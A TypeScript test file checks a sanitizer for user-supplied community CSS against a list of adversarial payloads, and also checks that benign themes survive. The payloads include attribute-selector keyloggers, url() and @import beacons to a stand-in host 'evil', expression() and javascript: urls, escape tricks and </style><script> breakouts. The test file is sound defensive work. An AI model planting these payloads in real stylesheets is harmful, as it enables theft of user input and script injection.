/**
 * Community custom CSS (issue #16 item 8): a corpus of known CSS injection and exfiltration
 * payloads, each of which must lose its dangerous part, and themes that must still work. Every
 * output is also checked as a whole: every selector inside the scope, no `<`, no `url()` outside
 * the instance's images, no `!important`.
 */
import generate from 'css-tree/generator';
import parse from 'css-tree/parser';
import walk from 'css-tree/walker';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MAX_COMMUNITY_CSS_BYTES, sanitizeCommunityCss } from '../../worker/moderation/cssSanitizer';

const SCOPE = '[data-community-theme="c1"]';
const OPTIONS = { scope: SCOPE, blobUrlPrefix: '/api/images/' };
const sanitize = (css: string) => sanitizeCommunityCss(css, OPTIONS);

/** What holds for any output: scoped selectors, no `<`, only own-image urls, nothing important. */
function expectContained(css: string) {
  expect(css).not.toContain('<');
  expect(css).not.toMatch(/!\s*important/i);
  for (const m of css.matchAll(/url\(/gi)) expect(css.slice(m.index, m.index + 16)).toBe('url(/api/images/');
  walk(parse(css), {
    visit: 'Rule',
    enter(rule) {
      if (this.atrule?.name === 'keyframes') return;
      if (rule.prelude.type !== 'SelectorList') throw new Error(`unreadable selector in output: ${css}`);
      for (const selector of rule.prelude.children) expect(generate(selector).startsWith(SCOPE)).toBe(true);
    },
  });
}

/** [what it is, the payload, text that must not survive (case-insensitive)]. */
const ATTACKS: [string, string, string[]][] = [
  ['attribute-selector keylogger', 'input[value^="a"]{background:url(https://evil/a)}', ['value', 'evil']],
  ['attribute keylogger on a password field', 'input[type=password][value$="z"]{background-image:url("/api/images/z")}', ['password', 'value']],
  ['attribute presence probe', '[data-secret]{color:red}', ['data-secret']],
  ['attribute selector hidden inside :not()', '.a:not([value="x"]){color:red}', ['value']],
  ['url() beacon in background', '.a{background:url(https://evil/x) no-repeat}', ['evil']],
  ['protocol-relative url() in background-image', '.a{background-image:url("//evil/x")}', ['evil']],
  ['url() beacon in list-style', 'li{list-style:url(https://evil/li) disc}', ['evil']],
  ['url() in cursor, even to an own image', '.a{cursor:url(/api/images/abc),auto}', ['url(']],
  ['url() beacon in border-image', '.a{border-image:url(https://evil/b) 30 round}', ['evil']],
  ['url() beacon in content', '.a::before{content:url(https://evil/c)}', ['evil']],
  ['attr() in content reads attributes', '.a::after{content:attr(value)}', ['attr(']],
  ['image-set() beacon', '.a{background-image:image-set("https://evil/a.png" 1x)}', ['image-set', 'evil']],
  ['url() in filter', '.a{filter:url(https://evil/f.svg#x)}', ['evil']],
  ['url() in mask and clip-path', '.a{mask:url(https://evil/m);clip-path:url(https://evil/c);mask-image:url(/api/images/a)}', ['evil', 'mask', 'clip-path']],
  ['@import of a remote sheet', '@import "https://evil/x.css"; .a{color:red}', ['import', 'evil']],
  ['@import url()', '@import url(https://evil/x.css);', ['import', 'evil']],
  ['@import with an escaped name', '@\\69mport url(https://evil/x.css);', ['mport', 'evil']],
  ['@import in upper case', '@IMPORT url(https://evil/x.css);', ['import', 'evil']],
  ['expression()', '.a{width:expression(alert(1))}', ['expression', 'alert']],
  ['expression() split by a comment', '.a{width:exp/**/ression(alert(1))}', ['ression', 'alert']],
  ['expression() with escapes', '.a{width:\\65xpression(alert(1))}', ['xpression', 'alert']],
  ['javascript: url', '.a{background:url(javascript:alert(1))}', ['javascript', 'alert']],
  ['javascript: url, quoted and escaped', '.a{background:url("java\\73 cript:alert(1)")}', ['java', 'alert']],
  ['-moz-binding', '.a{-moz-binding:url(https://evil/x.xml#x)}', ['binding', 'evil']],
  ['behavior', '.a{behavior:url(x.htc)}', ['behavior', 'htc']],
  ['url() written with an escape', '.a{background:\\75rl(https://evil/e)}', ['evil']],
  ['url() with an escaped letter', '.a{background:ur\\l(https://evil/e)}', ['evil']],
  ['url() split by a comment', '.a{background:u/**/rl(https://evil/e)}', ['evil']],
  ['property name hidden by an escape', '.a{\\62 ehavior:url(x.htc)}', ['htc']],
  ['path traversal out of the image route', '.a{background:url("/api/images/../../api/me")}', ['..', '/me']],
  ['percent-encoded traversal', '.a{background:url(/api/images/%2e%2e/%2e%2e/api/me)}', ['%2e', '/me']],
  ['double slash after the prefix', '.a{background:url(/api/images//evil.com/x)}', ['evil']],
  ['backslash in the path', '.a{background:url("/api/images/a\\5c\\5c evil")}', ['evil']],
  ['scheme after the prefix', '.a{background:url(/api/images/x:evil)}', ['evil']],
  ['@font-face with a unicode-range probe', '@font-face{font-family:p;src:url(https://evil/?A);unicode-range:U+0041} input{font-family:p}', ['font-face', 'evil', 'unicode-range']],
  ['unicode-range outside @font-face', '.a{unicode-range:U+0041-005A}', ['unicode-range', 'U+']],
  ['position: fixed full-screen overlay', '.a{position:fixed;inset:0;z-index:2147483647;background:#fff}', ['fixed', '2147483647']],
  ['position: sticky', '.a{position:sticky;top:0}', ['sticky']],
  ['position: fixed with an escape', '.a{position:\\66ixed}', ['ixed']],
  ['position: fixed through var()', '.a{--p:fixed;position:var(--p)}', ['position']],
  [':has() state oracle', '.form:has(input:checked){background:url(/api/images/a)}', [':has', 'checked']],
  [':placeholder-shown', 'input:placeholder-shown{color:red}', ['placeholder']],
  ['form state pseudo-classes', 'input:checked,input:valid,input:invalid,a:visited{color:red}', ['checked', 'valid', 'visited']],
  ['namespace selectors', '@namespace x url(http://www.w3.org/1999/xhtml); x|a{color:red} *|*{color:red}', ['namespace', '|']],
  ['</style> in a string', '.a::before{content:"</style><script>alert(1)</script>"}', ['script', 'style>']],
  ['</style> written with escapes', '.a::before{content:"\\3c/style\\3e\\3cscript\\3e"}', ['script']],
  ['</style> in an escaped class name', '.a\\<\\/style\\>{color:red}', ['style']],
  ['other at-rules', '@charset "utf-8"; @supports (display:grid){.a{color:red}} @layer x{.a{color:red}} @container (min-width:1px){.a{color:red}} @page{margin:0} @-moz-document url-prefix(){.a{color:red}}', ['charset', 'supports', 'layer', 'container', 'page', 'document']],
  ['sibling of the page root', 'body ~ .x, :root + * {color:red}', ['~', '+']],
  ['display: contents', '.a{display:contents}', ['contents']],
  ['nested rules', '.a{& .b{color:red}}', ['.b']],
  ['vendor-prefixed keyframes', '@-webkit-keyframes x{from{color:red}}', ['webkit']],
  ['url() beacon in a custom property', ':root{--bg:url(https://evil/v)} .a{background:var(--bg)}', ['evil']],
  ['attr() and expression() in custom properties', ':root{--a:attr(value);--b:expression(alert(1))}', ['attr', 'expression']],
  ['@import inside @media', '@media screen{@import url(https://evil/x.css); .a{color:red}}', ['import', 'evil']],
  ['media query with a url()', '@media url(https://evil/m){.a{color:red}}', ['evil']],
];

describe('community custom CSS', () => {
  it.each(ATTACKS)('16.8 M2 (adversarial): %s', (_name, payload, gone) => {
    const { css, removed } = sanitize(payload);
    expectContained(css);
    for (const text of gone) expect(css.toLowerCase()).not.toContain(text.toLowerCase());
    expect(removed.length).toBeGreaterThan(0);
  });

  it('16.8 M2 (adversarial): comments, including </style> in one, are not carried over', () => {
    expect(sanitize('/* </style><script>alert(1)</script> */ .a{color:red} <!-- -->').css).toBe('[data-community-theme="c1"] .a{color:red}');
  });

  it('16.8 M2 (adversarial): any mix of payload fragments comes out contained', () => {
    const fragments = [
      '.a', 'input', 'body', ':root', '*', ' ', '>', '~', '+', ',', '{', '}', '(', ')', '[', ']', ';', ':', '"', "'", '\\',
      '/**/', '@import', '@\\69mport', '@media', '@keyframes x', 'url(', 'ur\\l(', '\\75rl(', 'https://evil/', '/api/images/',
      '../', '%2e', 'expression(', 'exp/**/ression(', 'javascript:', '[value^=a]', ':has(', ':not(', '::before', 'color:red',
      'background:', 'position:fixed', 'content:', '--x:', 'var(--x)', '!important', '</style>', '\\3c', '<', 'z-index:99',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 40 }), (parts) => {
        const { css } = sanitize(parts.join(''));
        expectContained(css);
        expect(css.toLowerCase()).not.toMatch(/@import|expression\(|javascript:|\[value/);
      }),
      { numRuns: 500, seed: 168 },
    );
  });

  it('16.8 M2: an allowed rule is scoped and regenerated', () => {
    expect(sanitize('.message { color: #f0a; border-radius: 8px }')).toEqual({
      css: '[data-community-theme="c1"] .message{color:#f0a;border-radius:8px}',
      removed: [],
    });
  });

  it('16.8: :root, html, body and * become the scope element; their classes stay on it', () => {
    expect(sanitize(':root { --accent: #123 }').css).toBe('[data-community-theme="c1"]{--accent:#123}');
    expect(sanitize('html body > .x, *:hover .y, body.dark .z { color: red }').css).toBe(
      '[data-community-theme="c1"]>.x,[data-community-theme="c1"]:hover .y,[data-community-theme="c1"].dark .z{color:red}',
    );
  });

  it('16.8: url() to an own image survives', () => {
    expect(sanitize('.banner { background: url("/api/images/abc_DEF-1") center / cover }').css).toBe(
      '[data-community-theme="c1"] .banner{background:url(/api/images/abc_DEF-1)center/cover}',
    );
  });

  it('16.8: @media with an allowed rule survives, scoped', () => {
    expect(sanitize('@media (max-width: 600px) { .a { padding: 4px } }').css).toBe(
      '@media (max-width:600px){[data-community-theme="c1"] .a{padding:4px}}',
    );
  });

  it('16.8: @keyframes and the animations that use them get the community prefix', () => {
    const { css } = sanitize('@keyframes spin { from { transform: rotate(0) } to { transform: rotate(1turn) } } .s { animation: spin 1s infinite linear }');
    expect(css).toBe(
      '@keyframes data-community-theme-c1--spin{from{transform:rotate(0)}to{transform:rotate(1turn)}}' +
        '[data-community-theme="c1"] .s{animation:data-community-theme-c1--spin 1s infinite linear}',
    );
  });

  it('16.8: allowed pseudo-classes and pseudo-elements pass, normalised', () => {
    const { css, removed } = sanitize('.a:HOVER, .b:nth-child(2n+1)::before, .c:not(.d, #e):focus-visible { color: red }');
    expect(css).toBe(
      '[data-community-theme="c1"] .a:hover,[data-community-theme="c1"] .b:nth-child(2n+1)::before,' +
        '[data-community-theme="c1"] .c:not(.d,#e):focus-visible{color:red}',
    );
    expect(removed).toEqual([]);
  });

  it('16.8: in a selector list only the bad selector is dropped', () => {
    const { css, removed } = sanitize('.ok, input[value^="a"], .also-ok { color: red }');
    expect(css).toBe('[data-community-theme="c1"] .ok,[data-community-theme="c1"] .also-ok{color:red}');
    expect(removed).toEqual(['attribute selectors are not allowed: input[value^="a"]']);
  });

  it('16.8: a bad declaration is dropped and the rest of the rule kept; reasons name what went', () => {
    const { css, removed } = sanitize('.a { color: red; background: url(https://evil/x); position: fixed; padding: 2px }');
    expect(css).toBe('[data-community-theme="c1"] .a{color:red;padding:2px}');
    expect(removed).toEqual([
      'url() may only point to /api/images/: background:url(https://evil/x)',
      'this position value is not allowed: position:fixed',
    ]);
  });

  it('16.8: !important is removed so the app’s own rules win; z-index is clamped', () => {
    const { css, removed } = sanitize('.a { color: red !important; z-index: 999 } .b { z-index: -50 }');
    expect(css).toBe('[data-community-theme="c1"] .a{color:red;z-index:10}[data-community-theme="c1"] .b{z-index:-10}');
    expect(removed).toEqual(['!important was removed from color', 'z-index 999 was changed to 10', 'z-index -50 was changed to -10']);
  });

  it('16.8: escaped names are read as a browser reads them and written out plainly', () => {
    expect(sanitize('.a { co\\6cor: \\72gb(1 2 3); position: \\72 elative }').css).toBe('[data-community-theme="c1"] .a{color:rgb(1 2 3);position:relative}');
  });

  it('16.8 (limits): input over the limit is refused with a RangeError', () => {
    const big = `.a{color:red}`.repeat(Math.ceil(MAX_COMMUNITY_CSS_BYTES / 13) + 1);
    expect(() => sanitize(big)).toThrow(RangeError);
    expect(() => sanitize(big)).toThrow(/limit is 16384 bytes/);
    expect(() => sanitizeCommunityCss('.a{color:red}', { ...OPTIONS, maxBytes: 5 })).toThrow(RangeError);
    expect(() => sanitize('é'.repeat(MAX_COMMUNITY_CSS_BYTES / 2 + 1))).toThrow(RangeError);
  });

  it('16.8 (limits): deeply nested garbage is refused; shallow garbage is dropped', () => {
    expect(() => sanitize(`.a{width:${'calc('.repeat(5000)}1px}`)).toThrow(RangeError);
    expect(() => sanitize(`@media ${'('.repeat(8000)}{}`)).toThrow(RangeError);
    const { css, removed } = sanitize('.a{{{ ]]] ((( }}} @@@ ;;; } .b{color:red} <!-- --> }}}');
    expectContained(css);
    expect(removed.length).toBeGreaterThan(0);
  });

  it('16.8 (limits): the output is bounded even when scoping lengthens it', () => {
    const amplified = `${'a,'.repeat(MAX_COMMUNITY_CSS_BYTES / 2 - 20)}a{color:red}`;
    const { css, removed } = sanitize(amplified);
    expect(new TextEncoder().encode(css).length).toBeLessThanOrEqual(2 * MAX_COMMUNITY_CSS_BYTES);
    expect(removed.at(-1)).toMatch(/bytes/);
  });

  it('16.8 (limits): the list of reasons is bounded', () => {
    const { removed } = sanitize('[a]{color:red}'.repeat(200));
    expect(removed.length).toBe(51);
    expect(removed.at(-1)).toBe('…and 150 more');
  });

  it('16.8: the scope and image prefix are checked', () => {
    expect(() => sanitizeCommunityCss('', { ...OPTIONS, scope: '.a .b' })).toThrow(TypeError);
    expect(() => sanitizeCommunityCss('', { ...OPTIONS, scope: '' })).toThrow(TypeError);
    expect(() => sanitizeCommunityCss('', { ...OPTIONS, blobUrlPrefix: 'https://evil/' })).toThrow(TypeError);
    expect(() => sanitizeCommunityCss('', { ...OPTIONS, blobUrlPrefix: '//evil/' })).toThrow(TypeError);
  });
});
